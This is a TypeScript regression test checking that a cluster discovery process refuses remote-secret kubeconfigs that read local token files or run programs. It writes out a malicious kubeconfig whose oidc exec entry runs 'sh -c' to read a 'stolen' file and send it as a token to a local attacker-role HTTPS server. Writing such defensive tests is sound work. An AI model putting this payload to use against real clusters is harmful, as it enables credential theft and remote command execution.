/**
 * Issue 15 item 1: a remote secret must not make `isthmus discovery` read its own files or run
 * programs. A real discovery process gets remote secrets whose kubeconfigs use `token-file`, an
 * `auth-provider` with `config.tokenFile`, and `auth-provider: oidc` with `config.exec`, all
 * pointing at an HTTPS server this test controls. Asserted: the file's content never reaches that
 * server (it receives nothing at all), the command never runs (it would create a marker file), and
 * each cluster is reported refused with the secret, key and field named in the log, in
 * /debug/clusterz and in istiod_remote_cluster_sync_status.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { stringify } from 'yaml';
import { DiscoveryProcess } from '../../src/testing/discovery-process.ts';
import { putRemoteSecret, type ClusterzEntry } from '../../src/testing/remote-clusters.ts';
import { generateClusterCerts } from '../../src/testing/testbed/certs.ts';
import { Testbed } from '../../src/testing/testbed/testbed.ts';
import { poller } from '../../src/testing/wait.ts';

const dir = mkdtempSync(join(tmpdir(), 'isthmus-adv-kubeconfig-'));
const stolen = join(dir, 'stolen-token');
const STOLEN = 'STOLEN-FILE-CONTENT-5f2c9a';
writeFileSync(stolen, STOLEN);
const marker = join(dir, 'command-ran');
let bed: Testbed;
let disc: DiscoveryProcess | undefined;
let server: Server;
const seen: string[] = [];

const until = poller({ timeoutMs: 30_000, intervalMs: 50, context: () => disc?.logs().split('\n').slice(-15).join('\n') ?? '' });

before(async () => {
  const certs = await generateClusterCerts('attacker');
  server = createServer({ cert: certs.serverCertPem, key: certs.serverKeyPem }, (req, res) => {
    seen.push(`${req.method ?? ''} ${req.url ?? ''} ${JSON.stringify(req.headers)}`);
    res.writeHead(200, { 'content-type': 'application/json' }).end('{"kind":"List","items":[],"metadata":{"resourceVersion":"1"}}');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  bed = await Testbed.up({ dir: join(dir, 'bed'), clusters: ['cluster1'] });
  const c1 = bed.cluster('cluster1');
  await c1.ensureNamespace('istio-system');

  const url = `https://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const kc = (user: Record<string, unknown>) => stringify({
    apiVersion: 'v1', kind: 'Config', 'current-context': 'x',
    clusters: [{ name: 'x', cluster: { server: url, 'certificate-authority-data': Buffer.from(certs.caCertPem).toString('base64') } }],
    users: [{ name: 'x', user }],
    contexts: [{ name: 'x', context: { cluster: 'x', user: 'x' } }],
  });
  const exec = {
    apiVersion: 'client.authentication.k8s.io/v1', command: 'sh',
    args: ['-c', `touch ${marker}; printf '{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"token":"%s"}}' "$(cat ${stolen})"`],
  };
  await putRemoteSecret(c1, 'evil', {
    tokenfile: kc({ 'token-file': stolen }),
    providerfile: kc({ 'auth-provider': { name: 'oidc', config: { tokenFile: stolen } } }),
    oidcexec: kc({ 'auth-provider': { name: 'oidc', config: { exec, 'id-token': 'x' } } }),
  });
  disc = await DiscoveryProcess.start({ kubeconfig: c1.kubeconfigPath, clusterId: 'cluster1', env: { POD_NAMESPACE: 'istio-system', PILOT_REMOTE_CLUSTER_TIMEOUT: '5s' } });
  await disc.ready(60_000);
});

after(async () => {
  await disc?.stop();
  await bed.down();
  await new Promise((r) => server.close(r));
  rmSync(dir, { recursive: true, force: true });
});

const expected: Record<string, string> = {
  tokenfile: 'users[0].user.token-file',
  providerfile: 'users[0].user.auth-provider',
  oidcexec: 'users[0].user.auth-provider',
};

test('kubeconfigs that read files or run programs are refused with the field named, and nothing leaks', async () => {
  const d = disc;
  assert.ok(d);
  const evil = async () => (await d.json<ClusterzEntry[]>('/debug/clusterz')).filter((c) => c.secretName === 'istio-system/evil');
  // Wait until all three are reported refused, or something leaked or ran (the defect).
  await until('three refused clusters in clusterz, or a leak', async () => {
    const list = await evil();
    return (list.length === 3 && list.every((c) => c.syncStatus === 'error')) || seen.length > 0 || existsSync(marker) ? true : undefined;
  });
  // Give anything that was started time to reach the server or run.
  await sleep(3000);
  console.log(`requests the attacker's server received: ${seen.length} (${seen.filter((s) => s.includes(STOLEN)).length} carrying the file's content); marker file exists: ${existsSync(marker)}`);
  assert.ok(!seen.some((s) => s.includes(STOLEN)), 'the token file reached the server');
  assert.equal(existsSync(marker), false, 'a command from a remote secret ran');
  assert.deepEqual(seen, [], 'nothing may be sent to a refused cluster');
  const refused = await evil();
  assert.deepEqual(refused.map((c) => `${c.id}:${c.syncStatus}`).sort(), ['oidcexec:error', 'providerfile:error', 'tokenfile:error']);
  for (const c of refused) {
    const field = expected[c.id] ?? '?';
    const msg = c.lastError ?? '';
    assert.ok(msg.includes(`secret istio-system/evil key "${c.id}"`), msg);
    assert.ok(msg.includes(field), msg);
    assert.equal(c.reason, `ISTHMUS_REMOTE_KUBECONFIG_REFUSED ${field}`);
    assert.ok(d.logs().includes(`key "${c.id}": ${field}`), `log names ${c.id}'s field`);
  }
  const metrics = await (await fetch(`http://${d.monitoringAddr}/metrics`)).text();
  for (const [id, field] of Object.entries(expected)) {
    const line = metrics.split('\n').find((l) => l.startsWith(`istiod_remote_cluster_sync_status{cluster_id="${id}",`));
    assert.ok(line?.includes(`reason="ISTHMUS_REMOTE_KUBECONFIG_REFUSED ${field}"`) && line.endsWith(' 0'), line);
  }
});
